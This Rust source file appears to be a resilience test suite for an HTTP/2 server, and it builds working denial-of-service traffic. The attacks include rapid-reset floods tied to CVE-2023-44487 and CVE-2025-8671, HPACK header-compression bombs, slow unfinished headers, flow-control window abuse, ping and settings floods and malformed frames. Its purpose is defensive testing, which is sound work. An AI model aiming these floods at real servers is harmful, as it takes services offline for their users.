//! What only HTTP/2 offers to attackers.

use std::{
    io,
    time::{Duration, Instant},
};

use bytes::Bytes;
use http::Method;
use serde_json::json;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    time::timeout,
};

use crate::{
    attack::many,
    raw_http2::*,
    support::{SOON, pod::Pod},
    target::{Attack, Body, Head, STREAMS, Target, over_every_http2},
    wire::Wire,
};

over_every_http2! {
    resets_without_end,
    compressed_heads_that_are_huge,
    unfinished_heads_of_many_fields,
    waiting_uploads_with_many_fields,
    bodies_that_are_not_read,
    lists_that_are_not_taken,
    windows_that_open_and_close,
    windows_that_open_byte_by_byte,
    floods_without_reading,
    floods_of_frames_that_mean_nothing,
    frames_against_the_rules,
    bodies_where_none_belong,
}

/// How long a flood goes on.
const FLOOD: Duration = Duration::from_secs(3);

async fn store(target: &Target) -> String {
    let pod = Pod::named("wanted").padded(2_000_000).html();
    format!("/{}", target.upload("text/html", pod.as_bytes()).await.slug())
}

/// Says on a connection of its own what `next` gives, reading what comes back, until the time is over or the broker has
/// had enough. Returns how many times.
async fn flood(target: &Target, begin: &[u8], mut next: impl FnMut(u32) -> Vec<u8>) -> u32 {
    let mut wire = target.connect().await;
    wire.write_all(&[PREFACE, begin].concat()).await.unwrap();
    let (mut read, mut write) = tokio::io::split(wire);
    let mut count = 0;
    let say = async {
        loop {
            write.write_all(&next(count)).await?;
            count += 1;
        }
        #[allow(unreachable_code, reason = "tells the type of the error")]
        Ok::<(), io::Error>(())
    };
    let listen = async {
        let mut buffer = vec![0; 64 << 10];
        while read.read(&mut buffer).await.is_ok_and(|length| length > 0) {}
    };
    let _ = timeout(FLOOD, async {
        tokio::select! {
            _ = say => {}
            () = listen => {}
        }
    })
    .await;
    count
}

/// CVE-2023-44487, and CVE-2025-8671, where the broker is made to reset.
async fn resets_without_end(attack: Attack) {
    let target = attack.begin(&[]).await;
    let path = store(&target).await;
    let upload = block("POST", "/pods", &[("content-type", "text/html")]);
    let get = block("GET", &path, &[]);
    let counts = many(40, async |n| {
        flood(&target, b"", |count| {
            let streams = (0..100).map(|k| (count * 100 + k) * 2 + 1);
            let requests = streams.flat_map(|stream| match n % 4 {
                0 => [frame(HEADERS, END_HEADERS | END_STREAM, stream, &get), reset(stream)].concat(),
                1 => [frame(HEADERS, END_HEADERS, stream, &upload), reset(stream)].concat(),
                2 => [frame(HEADERS, END_HEADERS, stream, &upload), window_update(stream, 0)].concat(),
                _ => [frame(HEADERS, END_HEADERS | END_STREAM, stream, &get), window_update(stream, 1 << 30)]
                    .concat(),
            });
            requests.collect()
        })
        .await
    });
    let counts = counts.await;
    println!("{} hundred streams were reset", counts.iter().sum::<u32>());
    target.lift().await;
}

/// A few kilobytes that stand for megabytes.
async fn compressed_heads_that_are_huge(attack: Attack) {
    let target = attack.begin(&[]).await;
    let plain = block("GET", "/health", &[]);
    // A field of 4,000 bytes is put into the table, and then repeated in a byte each.
    let bomb = [plain, vec![0x40], literal(b"x"), literal(&[b'y'; 4000]), vec![0xbe; 12_000]].concat();
    many(200 / target.transport.cost(), async |_| {
        flood(&target, b"", |count| frame(HEADERS, END_HEADERS | END_STREAM, count * 2 + 1, &bomb)).await
    })
    .await;
    target.lift().await;
}

/// Fields of a few bytes each, as many as there is room for in a head.
fn many_fields(count: usize) -> Vec<u8> {
    (0..count).flat_map(|n| [&[0][..], &literal(format!("x{n}").as_bytes()), &[0]].concat()).collect()
}

/// Opens connections, each of which sends `bytes` of its number, and sees to it that others are served meanwhile.
async fn open<'a>(target: &Target, count: usize, bytes: impl Fn(usize) -> &'a Bytes) -> Vec<Wire> {
    let connections = many(count, async |n| {
        let mut wire = target.connect().await;
        wire.push(bytes(n)).await;
        wire
    });
    let connections = connections.await;
    target.digested().await;
    target.bystander_was_served().await;
    connections
}

/// Holds connections open, each of which has sent `bytes` of its number.
async fn hold_open<'a>(target: Target, count: usize, bytes: impl Fn(usize) -> &'a Bytes) {
    drop(open(&target, count, bytes).await);
    target.lift().await;
}

/// As long as they get: an octet of a pod id may be six in JSON.
async fn lists_that_are_not_taken(attack: Attack) {
    let target = attack.begin(&[]).await;
    let connections = 2_000 / target.transport.cost();
    let origins = many(85, async |n| {
        let mut origin = target.client().await;
        origin.send(json!({ "t": "register", "podId": format!("{}{n}", "\u{1}".repeat(126)) })).await;
        origin.receive().await;
        origin
    });
    let origins = origins.await;
    let requests = (0..STREAMS as u32).flat_map(|n| get(2 * n + 1, "/health"));
    let begin: Bytes = [PREFACE, &setting(4, 0)].concat().into_iter().chain(requests).collect();
    drop((open(&target, connections, |_| &begin).await, origins));
    target.lift().await;
}

/// The broker has decoded a hundred kilobytes when the rest does not come.
async fn unfinished_heads_of_many_fields(attack: Attack) {
    let target = attack.begin(&[]).await;
    let head = [block("GET", "/health", &[]), many_fields(390)].concat();
    let begin = Bytes::from([PREFACE, &frame(HEADERS, END_STREAM, 1, &head)].concat());
    let connections = 10_000 / target.transport.cost();
    hold_open(target, connections, |_| &begin).await;
}

/// As many as `limits.uploads` lets come within the time that each waits.
async fn waiting_uploads_with_many_fields(attack: Attack) {
    let target = attack.begin(&["pods.upload_wait=5s"]).await;
    target.uploads_may_be_busy();
    let plain = block("POST", "/pods", &[("content-type", "text/html"), ("content-length", "1000")]);
    // One name again and again, which costs a byte each time: 33 of the 16 KiB that a head may have.
    let repeated = [&[0x40][..], &literal(b"x"), &literal(b""), &[0xbe; 480]].concat();
    let requests = [repeated, many_fields(390), many_fields(60)].map(|fields| {
        let block = [&*plain, &fields].concat();
        let heads = (0..STREAMS as u32).flat_map(|n| frame(HEADERS, END_HEADERS, n * 2 + 1, &block));
        PREFACE.iter().copied().chain(heads).collect::<Bytes>()
    });
    hold_open(target, 280, |n| &requests[n % requests.len()]).await;
}

/// A body fills the window of its connection before anybody reads it, with a head that is just an ordinary one.
async fn bodies_that_are_not_read(attack: Attack) {
    let target = attack.begin(&[]).await;
    target.uploads_may_be_busy();
    let requests = [("POST", "/pods"), ("GET", "/health")].map(|(method, path)| {
        let head = [block(method, path, &[("content-type", "text/html")]), many_fields(60)].concat();
        let bodies = (0..32_000_usize).step_by(MAX_PAYLOAD).map(|sent| MAX_PAYLOAD.min(32_000 - sent));
        let bodies = bodies.flat_map(|length| frame(DATA, 0, 1, &vec![b'x'; length]));
        let head = frame(HEADERS, END_HEADERS, 1, &head);
        PREFACE.iter().copied().chain(head).chain(bodies).collect::<Bytes>()
    });
    let connections = 10_000 / target.transport.cost();
    hold_open(target, connections, |n| &requests[n % requests.len()]).await;
}

/// The initial window of all streams goes up and down.
async fn windows_that_open_and_close(attack: Attack) {
    let target = attack.begin(&[]).await;
    let path = store(&target).await;
    let begin: Vec<u8> = [setting(4, 0)]
        .into_iter()
        .chain((0..STREAMS as u32).map(|n| get(n * 2 + 1, &path)))
        .flatten()
        .collect();
    let flips = [setting(4, 1), setting(4, 0), setting(4, 65_535), setting(4, 0)].concat().repeat(25);
    many(40, async |_| flood(&target, &begin, |_| flips.clone()).await).await;
    target.lift().await;
}

async fn windows_that_open_byte_by_byte(attack: Attack) {
    let target = attack.begin(&[]).await;
    let path = store(&target).await;
    let streams = (0..STREAMS as u32).map(|n| n * 2 + 1);
    let begin: Vec<u8> =
        [setting(4, 0)].into_iter().chain(streams.clone().map(|n| get(n, &path))).flatten().collect();
    let bytes: Vec<u8> = streams.flat_map(|stream| window_update(stream, 1)).collect();
    many(1000 / STREAMS, async |_| flood(&target, &begin, |_| bytes.clone()).await).await;
    target.lift().await;
}

/// What is answered, or has to be, by a peer that reads no answer.
async fn floods_without_reading(attack: Attack) {
    let target = attack.begin(&[]).await;
    let floods = [
        frame(PING, 0, 0, &[0; 8]),
        frame(SETTINGS, 0, 0, &[]),
        setting(1, 0),
        // Streams that are refused, or answered with little.
        frame(HEADERS, END_HEADERS | END_STREAM, 1, &block("GET", "/nothing", &[])),
    ];
    let connections = many(40, async |n| {
        let mut wire = target.connect_narrow().await;
        wire.push(&Bytes::from_static(PREFACE)).await;
        let flood = &floods[n % floods.len()];
        let end = Instant::now() + FLOOD;
        for batch in 0..4000_u32 {
            let mut frames = flood.repeat(1000);
            if n % floods.len() == 3 {
                for (k, frame) in frames.chunks_mut(flood.len()).enumerate() {
                    frame[5..9].copy_from_slice(&((batch * 1000 + k as u32) * 2 + 1).to_be_bytes());
                }
            }
            let write = wire.write_all(&frames);
            if !matches!(timeout(Duration::from_secs(1), write).await, Ok(Ok(()))) || Instant::now() > end {
                return (batch, wire);
            }
        }
        panic!("four million frames were taken");
    });
    let connections = connections.await;
    println!(
        "{:?} thousand frames were taken",
        connections.iter().map(|(taken, _)| taken).collect::<Vec<_>>()
    );
    target.bystander_was_served().await;
    drop(connections);
    target.lift().await;
}

async fn floods_of_frames_that_mean_nothing(attack: Attack) {
    let target = attack.begin(&[]).await;
    let upload = block("POST", "/pods", &[("content-type", "text/html")]);
    let begin = frame(HEADERS, END_HEADERS, 1, &upload);
    let floods = [
        frame(PRIORITY, 0, 3, &[0, 0, 0, 1, 16]),
        frame(0xfa, 0xff, 0, &[0; 100]),
        frame(DATA, 0, 1, &[]),
        frame(DATA, PADDED, 1, &[255; 256]),
        window_update(1, 1),
        window_update(0, 1),
        frame(PING, END_STREAM, 0, &[0; 8]),
        frame(SETTINGS, END_STREAM, 0, &[]),
        frame(RST_STREAM, 0, 1, &[0; 4]),
    ];
    target.uploads_may_be_busy();
    many(floods.len() * 4, async |n| {
        let frames = floods[n % floods.len()].repeat(100);
        flood(&target, &begin, |_| frames.clone()).await
    })
    .await;
    target.lift().await;
}

async fn frames_against_the_rules(attack: Attack) {
    let target = attack.begin(&[]).await;
    let head = block("GET", "/health", &[]);
    let opened = |more: Vec<u8>| {
        [frame(HEADERS, END_HEADERS, 1, &block("POST", "/pods", &[("content-type", "text/html")])), more]
            .concat()
    };
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("data of the connection", frame(DATA, 0, 0, b"x")),
        ("a head of the connection", frame(HEADERS, END_HEADERS, 0, &head)),
        ("a stream of the broker's", frame(HEADERS, END_HEADERS, 2, &head)),
        ("data of a stream that is not open", frame(DATA, 0, 5, b"x")),
        ("a reset of a stream that is not open", reset(5)),
        ("a window of a stream that is not open", window_update(5, 1)),
        ("a continuation of nothing", frame(CONTINUATION, END_HEADERS, 1, &head)),
        (
            "a head within a head",
            [frame(HEADERS, 0, 1, &head), frame(HEADERS, END_HEADERS, 3, &head)].concat(),
        ),
        ("a ping within a head", [frame(HEADERS, 0, 1, &head), frame(PING, 0, 0, &[0; 8])].concat()),
        (
            "an answer that the client gives",
            frame(PUSH_PROMISE, END_HEADERS, 1, &[&[0, 0, 0, 2], &*head].concat()),
        ),
        ("settings of five bytes", frame(SETTINGS, 0, 0, &[0; 5])),
        ("settings of a stream", frame(SETTINGS, 0, 1, &[])),
        ("an answer to settings that has some", frame(SETTINGS, END_STREAM, 0, &[0; 6])),
        ("a setting of neither yes nor no", setting(2, 2)),
        ("a window of 2^31", setting(4, 1 << 31)),
        ("frames of one byte", setting(5, 1)),
        ("a ping of seven bytes", frame(PING, 0, 0, &[0; 7])),
        ("a ping of a stream", frame(PING, 0, 1, &[0; 8])),
        ("a window that opens by nothing", window_update(0, 0)),
        ("a window that opens too far", window_update(0, (1 << 31) - 1)),
        ("a reset of three bytes", opened(frame(RST_STREAM, 0, 1, &[0; 3]))),
        ("a priority of four bytes", opened(frame(PRIORITY, 0, 1, &[0; 4]))),
        ("more padding than frame", opened(frame(DATA, PADDED, 1, &[200, 0, 0]))),
        ("a frame that is too large", opened(frame(DATA, 0, 1, &[0; MAX_PAYLOAD + 1]))),
        ("a field that no table has", frame(HEADERS, END_HEADERS, 1, &[0x80])),
        ("a table that is too large", frame(HEADERS, END_HEADERS, 1, &[0x3f, 0xe1, 0xff, 0x7f])),
        ("a string that is cut off", frame(HEADERS, END_HEADERS, 1, &[0x00, 0x7f, 0xff, 0x7f, b'x'])),
        ("the end of a connection within it", frame(GOAWAY, 0, 1, &[0; 8])),
    ];
    many(cases.len() * 20 / target.transport.cost(), async |n| {
        let (what, bytes) = &cases[n % cases.len()];
        let (mut read, mut write) = tokio::io::split(target.connect().await);
        let write = async {
            write.write_all(PREFACE).await?;
            write.write_all(bytes).await?;
            write.flush().await
        };
        let mut answers = Vec::new();
        let read = read.read_to_end(&mut answers);
        let ended = timeout(SOON, async { tokio::join!(write, read) }).await;
        assert!(ended.is_ok(), "{what}: the broker went on");
    })
    .await;
    target.lift().await;
}

async fn bodies_where_none_belong(attack: Attack) {
    let target = attack.begin(&[]).await;
    let path = store(&target).await;
    let taken = many(20, async |_| {
        let head = Head { method: Method::GET, path: &path, fields: &[] };
        let (mut upload, mut download) = target.request(head, Body::Length(1_000_000_000_000)).await;
        let chunk = vec![0; 1 << 20];
        let write = async {
            for taken in 0..100 {
                if !matches!(timeout(Duration::from_secs(1), upload.write_all(&chunk)).await, Ok(Ok(()))) {
                    return taken;
                }
            }
            100
        };
        let read = async {
            assert_eq!(download.answer().await.unwrap().status, 200);
        };
        tokio::join!(write, read).0
    });
    let taken = taken.await;
    assert!(taken.iter().all(|taken| *taken <= 1), "{taken:?} MB of bodies that nobody wants were taken");
    target.lift().await;
}
